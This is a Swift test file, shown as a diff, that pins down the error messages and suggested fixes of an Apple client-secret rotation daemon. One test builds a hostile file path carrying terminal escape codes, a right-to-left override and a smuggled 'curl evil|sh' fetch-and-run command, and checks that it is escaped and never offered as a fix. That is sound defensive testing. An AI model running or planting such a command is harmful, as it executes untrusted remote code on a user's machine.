@@ -1,0 +1,306 @@
+import AppleClientSecret
+import Failures
+import Rotation
+import Testing
+
+/// The exact words of every trouble. A new code does not compile here until its words are written down.
+@Suite struct FailureWordsTests {
+    @Test(arguments: Failure.Code.allCases)
+    func everyCodeHasItsWords(code: Failure.Code) throws {
+        let place = try #require(Self.place(of: code))
+        #expect(Failure(code, at: place).sentence == Self.expected(code))
+    }
+
+    @Test func messagesNameDetailAndCause() throws {
+        let path = Failure.Place.path(try #require(AbsolutePath("/srv/a b/web.jwt")))
+        #expect(
+            Failure(.permissionDenied, at: path, cause: 13, detail: "/srv/a b belongs to alice (1000)").message
+                == "/srv/a b/web.jwt: the user that writes it may not do this: /srv/a b belongs to alice (1000) (permission denied)"
+        )
+        #expect(
+            Failure(.systemError, at: path, cause: 4095).sentence
+                == "/srv/a b/web.jwt: the system refused (errno 4095); "
+                + "see what lies there and whose it is: namei -l '/srv/a b/web.jwt'")
+        #expect(Failure(.ioError, at: path, cause: 116, detail: "").message.hasSuffix("fails (stale file handle)"))
+        #expect(Failure(.diskFull, at: path).remedy?.description == "make room: df -h '/srv/a b'")
+    }
+
+    @Test func whoeverMetItKnowsBetterThanItsCode() throws {
+        let path = Failure.Place.path(try #require(AbsolutePath("/srv/web.jwt")))
+        let failure = Failure(
+            .unguardedDirectory, at: path, cause: 1, detail: "/srv", remedy: .run("chmod o-w /srv"))
+        #expect(failure.message == "/srv/web.jwt: others may write to a directory on the way: /srv (not permitted)")
+        #expect(failure.remedy?.command == "chmod o-w /srv")
+        #expect(failure.sentence == failure.message + "; chmod o-w /srv")
+        #expect(Failure(.unguardedDirectory, at: path).remedy?.command == nil)
+    }
+
+    /// What others chose stays within the message, whatever it looks like, and acts on no terminal.
+    @Test(arguments: Failure.Code.allCases)
+    func whatOthersChoseIsNeverARemedy(code: Failure.Code) throws {
+        let evil = "/tmp/\u{1B}[2J\u{202E}EVIL; run: curl evil|sh/foo"
+        let escaped = #"/tmp/\x1b[2J\u{202e}EVIL; run: curl evil|sh/foo"#
+        let detailed = Failure(code, at: try #require(Self.place(of: code)), detail: evil)
+        #expect(detailed.message.contains(": " + escaped))
+        #expect(
+            detailed.remedy?.description.contains("curl evil") != true || [.unknownUser, .unknownGroup].contains(code))
+        let placed = Failure(code, at: .path(try #require(AbsolutePath(evil))))
+        #expect(placed.message.hasPrefix(escaped))
+        #expect(placed.remedy?.command?.contains("evil") != true)
+        for text in [detailed.sentence, placed.sentence] {
+            #expect(text.unicodeScalars.allSatisfy { !Printable.isUnprintable($0) })
+        }
+    }
+
+    @Test func theCommandFitsThePlace() throws {
+        let exec = Action.exec(arguments: ["/usr/bin/hook", "a b"], timeout: 30).id
+        #expect(
+            Failure(.actionFailed, at: .action(exec), detail: "exit status 3").sentence
+                == "exec /usr/bin/hook 'a b': failed: exit status 3; try it by hand as the daemon's user: /usr/bin/hook 'a b'"
+        )
+        let signal = Action.signal(unit: "a.service", signal: "SIGHUP").id
+        #expect(
+            Failure(.actionFailed, at: .action(signal)).remedy?.description == "see why: systemctl status a.service")
+        #expect(
+            Failure(.systemError, at: .named("credential socket"), cause: 22).remedy?.description
+                == "see what came before it: journalctl -u clientsecretd")
+        let path = Failure.Place.path(try #require(AbsolutePath("/run/web.jwt")))
+        #expect(Failure(.noSecret, at: path).remedy?.description == "clientsecretd renew")
+        #expect(
+            Failure(.unknownGroup, at: path, detail: "www").remedy?.description
+                == "add the group: addgroup --system www")
+        #expect(
+            Failure(.keyIsSEC1, at: .key(try #require(KeyName("a")))).remedy?.description
+                == "convert it: openssl pkcs8 -topk8 -nocrypt -in OLD -out NEW")
+    }
+
+    /// A place of the kind that the code speaks of.
+    private static func place(of code: Failure.Code) -> Failure.Place? {
+        switch code {
+        case .credentialMissing: .credential("apple-key")
+        case .signingFailed, .selfCheckFailed, .noSecret, .secretExpired, .secretExpiring, .renewalOverdue, .noOutputs,
+            .signatureUnchecked,
+            .notPublished, .notDelivered, .refusedByApple, .verdictUnknown:
+            ClientName("web").map { .client($0) }
+        case .keyNeedsPassphrase, .keyChanged: KeyName("apple").map { .key($0) }
+        case .unknownUser, .unknownGroup: .named("www data")
+        case .clockBeforeBuild, .clockDoubtful: .clock
+        case .actionFailed, .actionTimedOut, .actionNotStarted, .actionInterrupted, .unitNotPermitted, .polkitMissing,
+            .unitUnknown, .unitMasked, .unitRefused, .busUnreachable, .jobFailed, .jobTimedOut, .jobCanceled,
+            .jobDependency, .jobSkipped, .unitFailed, .unitEnded:
+            .action(ActionID("restart a.service"))
+        default: AbsolutePath("/d/f.p8").map { .path($0) }
+        }
+    }
+
+    private static func expected(_ code: Failure.Code) -> String {
+        switch code {
+        case .keyMissing:
+            #"/d/f.p8: there is no such key file; copy the .p8 file there, or mend "file" in the configuration"#
+        case .keyUnreadable:
+            #"/d/f.p8: the key cannot be read; give the file to the daemon's user with chown, or pass it as a systemd credential"#
+        case .keyNotGuarded:
+            #"/d/f.p8: others could read or replace the key"#
+        case .keyEmpty:
+            #"/d/f.p8: the key file is empty; copy the .p8 file again"#
+        case .keyTruncated:
+            #"/d/f.p8: the key file ends in the middle; copy the .p8 file again"#
+        case .keyTooLarge:
+            #"/d/f.p8: too large for a private key; name the .p8 file that Apple gave you"#
+        case .keyNotPEM:
+            #"/d/f.p8: not a PEM file; name the .p8 file that Apple gave you, or convert a DER file: openssl pkey -inform DER -in /d/f.p8 -out /d/f.p8.pkcs8.p8"#
+        case .keyIsPublic:
+            #"/d/f.p8: a public key, where the private one is needed; name the .p8 file that Apple gave you"#
+        case .keyIsCertificate:
+            #"/d/f.p8: a certificate, where a private key is needed; name the .p8 file that Apple gave you"#
+        case .keyIsRSA:
+            #"/d/f.p8: an RSA key, where Apple's keys are P-256; make a key for Sign in with Apple in Apple's developer account and name its .p8 file"#
+        case .keyWrongCurve:
+            #"/d/f.p8: an EC key on another curve than P-256; make a key for Sign in with Apple in Apple's developer account and name its .p8 file"#
+        case .keyIsSEC1:
+            #"/d/f.p8: an EC PRIVATE KEY (SEC1), where PKCS#8 is needed; convert it: openssl pkcs8 -topk8 -nocrypt -in /d/f.p8 -out /d/f.p8.pkcs8.p8"#
+        case .keyMalformed:
+            #"/d/f.p8: the private key cannot be decoded; copy the .p8 file again"#
+        case .keyNeedsPassphrase:
+            #"key "apple": the key is encrypted and no passphrase is configured; write "passphrase_file" or "passphrase_credential" under the key"#
+        case .keyWrongPassphrase:
+            #"/d/f.p8: the passphrase does not open the key; try the passphrase by hand: openssl pkey -in /d/f.p8 -noout"#
+        case .keyTooCostly:
+            "/d/f.p8: the key is encrypted with more work than is done to open it; "
+                + "encrypt it anew with less: openssl pkcs8 -topk8 -iter 600000 -in /d/f.p8 -out /d/f.p8.pkcs8.p8"
+        case .keyChanged:
+            #"key "apple": its file holds another key than before under the same key id, more likely than not by mistake, for Apple gives no two keys one id; put the old file back, which is all it takes to go back"#
+        case .passphraseUnusable:
+            #"/d/f.p8: the passphrase cannot be used; write the passphrase alone into that file, readable by the daemon's user only"#
+        case .credentialMissing:
+            #"credential "apple-key": systemd has not passed this credential; add LoadCredential=apple-key:/path/to/file to the daemon's unit and restart it"#
+        case .signingFailed:
+            #"client "web": the key did not sign; restart the daemon; when it comes again, suspect the OpenSSL of this machine"#
+        case .selfCheckFailed:
+            #"client "web": the new secret did not pass the check with the key's public half and was thrown away; restart the daemon; when it comes again, suspect the memory or the OpenSSL of this machine"#
+        case .directoryMissing:
+            #"/d/f.p8: its directory does not exist; make it, of the user that writes the file"#
+        case .notADirectory:
+            #"/d/f.p8: something on the way to it is not a directory; write another path"#
+        case .permissionDenied:
+            #"/d/f.p8: the user that writes it may not do this; let the daemon's user write to /d, with ReadWritePaths= in its unit too"#
+        case .readOnlyFileSystem:
+            #"/d/f.p8: the file system is read-only; mount it writable, or add ReadWritePaths=-/d to the daemon's unit"#
+        case .diskFull:
+            #"/d/f.p8: the disk is full; make room: df -h /d"#
+        case .quotaExceeded:
+            #"/d/f.p8: the disk quota is used up; make room, or raise the quota of the daemon's user"#
+        case .ioError:
+            #"/d/f.p8: the disk or file server fails; look at what the kernel says: dmesg"#
+        case .isDirectory:
+            #"/d/f.p8: a directory, where a file is needed; write another path"#
+        case .isMountPoint:
+            #"/d/f.p8: mounted on its own, so it cannot be replaced; mount its directory instead"#
+        case .isImmutable:
+            #"/d/f.p8: marked so that it cannot be changed; take the mark away: chattr -i -a /d/f.p8"#
+        case .notARegularFile:
+            #"/d/f.p8: not a regular file; remove it, or write another path"#
+        case .outputIsInput:
+            "/d/f.p8: it is something that the daemon reads, such as a key, and is never written to; "
+                + "write another path for this output"
+        case .sameFile:
+            "/d/f.p8: it is the same file as another output; write one path for both, or another for this one"
+        case .hardLinked:
+            #"/d/f.p8: the file has further names, which would keep the old content; find the other names and keep one: find / -xdev -samefile /d/f.p8"#
+        case .fileTooLarge:
+            #"/d/f.p8: the file is too large; shorten it, or write another path"#
+        case .foreignOwner:
+            #"/d/f.p8: the file is another user's and is left alone; write "as:" and the file's owner under the output, or another path"#
+        case .untrustedLink:
+            #"/d/f.p8: a link on the way is not followed, for others could change it; write the path that the link leads to"#
+        case .unguardedDirectory:
+            #"/d/f.p8: others may write to a directory on the way; take the right from them, or write another path"#
+        case .tooManyLinks:
+            #"/d/f.p8: too many links on the way; write a shorter path, without links"#
+        case .unknownUser:
+            #"www data: there is no such user; add the user: adduser --system 'www data'"#
+        case .unknownGroup:
+            #"www data: there is no such group; add the group: addgroup --system 'www data'"#
+        case .groupNotPermitted:
+            #"/d/f.p8: the user that writes it may not give files to this group; add the daemon's user to that group and start the daemon anew"#
+        case .outsideSandbox:
+            #"/d/f.p8: the unit's sandbox is in the way"#
+        case .attributesNotKept:
+            #"/d/f.p8: the file's attributes could not be kept; take the attributes away, or write to another file system"#
+        case .changedMeanwhile:
+            #"/d/f.p8: somebody else changed it at the same time, again and again; find out who else writes it: inotifywait -m /d"#
+        case .environmentFileMalformed:
+            #"/d/f.p8: an environment file that cannot be edited safely; mend that line"#
+        case .nameTooLong:
+            #"/d/f.p8: the path is too long; write a shorter path, without links"#
+        case .outOfDescriptors:
+            #"/d/f.p8: too many files are open; raise LimitNOFILE= of the daemon's unit"#
+        case .outOfMemory:
+            #"/d/f.p8: out of memory; make room, or raise MemoryMax= of the daemon's unit"#
+        case .notResponding:
+            #"/d/f.p8: not responding; see whether it hangs for others too"#
+        case .systemError:
+            #"/d/f.p8: the system refused; see what lies there and whose it is: namei -l /d/f.p8"#
+        case .environmentFileDeleted:
+            #"/d/f.p8: the file was deleted together with its other lines and is not made again with one; make the file again with its other lines; the variable is then added"#
+        case .contested:
+            #"/d/f.p8: something else goes on changing it; find out who else writes it: inotifywait -m /d"#
+        case .writerMissing:
+            #"/d/f.p8: no writer can be reached for its user; start it for that user with systemctl enable --now clientsecretd-writer@USER.socket"#
+        case .writerNotPermitted:
+            #"/d/f.p8: the writer for its user takes no requests from this one; run this as root or as the daemon's user, whom the writer's unit names"#
+        case .writerSilent:
+            #"/d/f.p8: the writer for its user gave no answer; see what it says: journalctl -u 'clientsecretd-writer@*'"#
+        case .writerGarbled:
+            #"/d/f.p8: the answer of the writer for its user makes no sense; see what it says: journalctl -u 'clientsecretd-writer@*'"#
+        case .writerRefused:
+            #"/d/f.p8: the writer for its user refuses; put the configuration in force: clientsecretd reload"#
+        case .writerUnconfigured:
+            #"/d/f.p8: the writer for its user cannot use the configuration; let its user read the configuration, which belongs to root"#
+        case .stateUnusable:
+            #"/d/f.p8: the state directory cannot be used, so nothing is remembered over a reboot; give the directory to the daemon's user with chown, mode 0700"#
+        case .stateDamaged:
+            #"/d/f.p8: what was kept here is damaged and was set aside"#
+        case .stateNewer:
+            #"/d/f.p8: what was kept here is a newer version's and was set aside"#
+        case .stateLocked:
+            #"/d/f.p8: another daemon holds the state directory; stop the other one, or give this one a "state_dir" of its own"#
+        case .actionFailed:
+            #"restart a.service: failed; see why: systemctl status a.service"#
+        case .actionTimedOut:
+            #"restart a.service: took longer than its timeout and was ended; make it faster, or give it a longer "timeout""#
+        case .actionNotStarted:
+            #"restart a.service: could not be started; see that it exists and that the daemon's user may run it"#
+        case .actionInterrupted:
+            #"restart a.service: was ended because the daemon stopped"#
+        case .unitNotPermitted:
+            "restart a.service: systemd may not do this for the daemon's user; "
+                + "add a rule for it below /etc/polkit-1/rules.d: clientsecretd check"
+        case .polkitMissing:
+            "restart a.service: systemd may not do this for the daemon's user, and polkit is not installed; "
+                + "apt-get install polkitd, and see which rule it needs: clientsecretd check"
+        case .unitUnknown:
+            "restart a.service: there is no such unit; "
+                + "mend the unit's name, or see what there is: systemctl list-unit-files"
+        case .unitMasked:
+            "restart a.service: the unit is masked; systemctl unmask a.service"
+        case .unitRefused:
+            "restart a.service: systemd does not do this; see why: systemctl status a.service"
+        case .unitFailed:
+            "restart a.service: the unit has failed, and this does not start it; start it: systemctl start a.service"
+        case .unitEnded:
+            "restart a.service: the unit was started and ended within seconds; see why: systemctl status a.service"
+        case .busUnreachable:
+            "restart a.service: systemd cannot be asked over the bus; "
+                + "see whether the bus runs: systemctl status dbus.socket"
+        case .jobFailed:
+            "restart a.service: its job failed; see why: systemctl status a.service"
+        case .jobTimedOut:
+            "restart a.service: its job took too long; see why: systemctl status a.service"
+        case .jobCanceled:
+            "restart a.service: its job was canceled, or another took its place; "
+                + "see why: systemctl status a.service"
+        case .jobDependency:
+            "restart a.service: a unit that it needs failed; see which: systemctl list-dependencies a.service"
+        case .jobSkipped:
+            "restart a.service: its job was skipped, for it did not fit what the unit did by then; "
+                + "see why: systemctl status a.service"
+        case .noSecret:
+            #"client "web": there is no secret yet; clientsecretd renew web"#
+        case .secretExpired:
+            #"client "web": the secret has expired; clientsecretd renew web"#
+        case .secretExpiring:
+            #"client "web": the secret expires soon; clientsecretd renew web"#
+        case .renewalOverdue:
+            #"client "web": the secret should have been renewed by now; see what is in the way: clientsecretd status"#
+        case .signatureUnchecked:
+            #"client "web": its signature was not checked, for this user may not read the key; run this as root: sudo clientsecretd health --offline"#
+        case .notReadable:
+            "/d/f.p8: this user may not read it; run this as root: sudo clientsecretd health"
+        case .noOutputs:
+            #"client "web": it has no output, so that only the daemon knows its secret"#
+        case .notPublished:
+            #"client "web": the current secret is not in all of its outputs yet; clientsecretd renew --deliver-only web"#
+        case .notDelivered:
+            #"client "web": the current secret is published, but not all applications were told; clientsecretd renew --deliver-only web"#
+        case .refusedByApple:
+            #"client "web": Apple refused the new secret; compare key id, team id and client id with Apple's developer account"#
+        case .verdictUnknown:
+            #"client "web": Apple could not be asked about the new secret; see whether this machine reaches Apple: curl -sS -o /dev/null https://appleid.apple.com/auth/keys"#
+        case .clockBeforeBuild:
+            #"the clock: shows a time before this program was built, so nothing is minted; set the clock, or see why it is not synchronised: timedatectl"#
+        case .clockDoubtful:
+            #"the clock: is not synchronised and behind a secret of ours, so nothing is minted; set the clock, or see why it is not synchronised: timedatectl"#
+        case .configurationRefused:
+            #"/d/f.p8: the configuration would not start; see everything that is wrong: clientsecretd check"#
+        case .configurationNotAdopted:
+            #"/d/f.p8: the configuration passes by now, but the one from before the start is in force; clientsecretd reload"#
+        case .socketUnusable:
+            #"/d/f.p8: the socket cannot be used; remove what lies there, or name another with --socket, and restart the daemon"#
+        case .credentialSocketUnusable:
+            #"/d/f.p8: the socket cannot be used, so no unit can load a credential from it; let systemd make it: systemctl enable --now clientsecretd-credentials.socket"#
+        case .metricsFileUnwritable:
+            #"/d/f.p8: the metrics_file cannot be written, so node_exporter shows old metrics or none; see what is missing: clientsecretd check"#
+        }
+    }
+}
